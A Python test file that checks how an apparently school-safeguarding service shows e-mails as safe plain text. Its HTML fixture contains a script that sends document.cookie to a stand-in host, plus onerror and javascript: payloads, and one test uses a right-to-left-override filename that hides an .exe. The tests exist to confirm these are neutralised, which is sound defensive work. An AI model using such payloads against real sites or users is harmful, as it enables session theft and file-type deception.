"""E-mails shown as text inside Haven: headers, body and attachment list, never live HTML."""
from __future__ import annotations

from email.message import EmailMessage

import pytest

from services.common.errors import ValidationFailed
from services.documents import email_view
from services.documents.email_view import html_to_text, render_email

from . import samples

HOSTILE_HTML = ("<html><head><title>t</title><style>body{background:url(http://x/s.gif)}</style></head><body>"
                "<p>Sam was <b>upset</b> &amp; crying.</p><script>fetch('http://x/'+document.cookie)</script>"
                "<img src='http://tracker.example/p.gif' onerror='alert(1)'><div>Please call me.</div>"
                "<a href='javascript:alert(1)'>here</a></body></html>")


def test_an_eml_shows_its_headers_body_and_attachments():
    shown = render_email(samples.eml(attachments=(("photo.jpg", samples.JPEG), ("GP letter.pdf", samples.PDF))))
    assert shown["headers"] == {"from": "Ms Parent <parent@home.example>", "to": "DSL Team <dsl@school.example>",
                                "cc": "Head <head@school.example>", "date": "Tue, 05 Mar 2024 08:30:00 +0000",
                                "subject": "Worry about Sam"}
    assert shown["body"] == "Sam said something at break.\nPlease call.\n"
    assert shown["attachments"] == [
        {"filename": "photo.jpg", "content_type": "image/jpeg", "size": len(samples.JPEG)},
        {"filename": "GP letter.pdf", "content_type": "application/pdf", "size": len(samples.PDF)}]


def test_encoded_headers_are_decoded():
    shown = render_email(samples.eml(subject="Zoë's worry — urgent", from_="Zoë Nowak <z@home.example>"))
    assert shown["headers"]["subject"] == "Zoë's worry — urgent"
    assert shown["headers"]["from"] == "Zoë Nowak <z@home.example>"


def test_the_plain_text_part_is_preferred_to_the_html_one():
    shown = render_email(samples.eml(body="Plain words.", html=HOSTILE_HTML))
    assert shown["body"] == "Plain words.\n"


def test_an_html_only_eml_is_shown_as_its_words_and_nothing_that_runs_or_loads():
    shown = render_email(samples.eml(body=None, html=HOSTILE_HTML, attachments=()))
    assert shown["body"] == "Sam was upset & crying.\n\nPlease call me.\nhere"
    for live in ("<", "script", "cookie", "http", "onerror", "javascript", "background"):
        assert live not in shown["body"]
    assert shown["attachments"] == []


def test_an_attached_email_is_one_attachment_and_its_own_attachments_are_not_listed():
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "a@b.example", "Forwarded"
    inner.set_content("inner")
    inner.add_attachment(samples.PDF, maintype="application", subtype="pdf", filename="inner.pdf")
    outer = EmailMessage()
    outer["From"], outer["To"], outer["Subject"] = "head@school.example", "dsl@school.example", "FW"
    outer.set_content("See below.")
    outer.add_attachment(inner, filename="forwarded.eml")
    shown = render_email(bytes(outer))
    assert [(a["filename"], a["content_type"]) for a in shown["attachments"]] == [("forwarded.eml",
                                                                                    "message/rfc822")]
    assert shown["attachments"][0]["size"] > 0


def test_attachment_names_are_made_safe_to_show():
    shown = render_email(samples.eml(attachments=(("../../invoice\u202efdp.exe.pdf", samples.PDF),)))
    assert shown["attachments"][0]["filename"] == "invoicefdp.exe.pdf"


def test_a_huge_body_is_cut_with_a_note(monkeypatch):
    monkeypatch.setattr(email_view, "MAX_BODY_CHARS", 1000)
    shown = render_email(samples.eml(body="worry " * 1000))
    assert shown["body"].startswith("worry worry") and len(shown["body"]) < 1200
    assert shown["body"].endswith("it is longer than 1,000 characters. Download the file to read all of it.]")


def test_a_huge_html_body_is_only_read_up_to_its_limit(monkeypatch):
    monkeypatch.setattr(email_view, "MAX_HTML_CHARS", 5000)
    shown = render_email(samples.eml(body=None, html="<p>" + "worry " * 5000 + "</p><p>THE END</p>",
                                     attachments=()))
    assert "THE END" not in shown["body"] and "Download the file to read all of it." in shown["body"]


def test_an_outlook_msg_shows_its_headers_body_and_attachments():
    shown = render_email(samples.msg())
    assert shown["headers"]["from"] == "Ms Parent <parent@home.example>"
    assert shown["headers"]["to"] == "DSL Team <dsl@school.example>"
    assert shown["headers"]["subject"] == "Worry about Sam" and shown["headers"]["date"].startswith("2024-")
    assert shown["body"] == "Sam said something at break.\nPlease call."
    assert shown["attachments"] == [{"filename": "photo.jpg", "content_type": "image/jpeg",
                                     "size": len(samples.JPEG)}]


def test_an_html_only_msg_is_shown_as_its_words():
    shown = render_email(samples.msg(body=None, html=HOSTILE_HTML.encode(), attachment=None))
    assert shown["body"] == "Sam was upset & crying.\n\nPlease call me.\nhere"
    assert shown["attachments"] == []


@pytest.mark.parametrize("content", [samples.PDF, samples.doc(), samples.TEXT])
def test_a_document_that_is_not_an_email_is_refused(content):
    with pytest.raises(ValidationFailed) as caught:
        render_email(content)
    assert caught.value.errors == [{"field": "file", "message": "This document is not an e-mail, so it "
                                                                "cannot be shown as one."}]


def test_a_damaged_msg_is_refused_in_words_not_a_crash():
    # An Outlook file whose property stream is cut short: the container is sound, the message is not.
    damaged = samples.ole({"__properties_version1.0": b"\x00" * 3,
                           "__substg1.0_001A001F": "IPM.Note".encode("utf-16-le")})
    with pytest.raises(ValidationFailed) as caught:
        render_email(damaged)
    assert "damaged" in caught.value.errors[0]["message"]


def test_html_to_text_keeps_words_and_breaks():
    assert html_to_text("<p>One</p><p>Two&nbsp;three<br>four</p><ul><li>a</li><li>b</li></ul>") \
        == "One\n\nTwo three\nfour\n\na\n\nb"
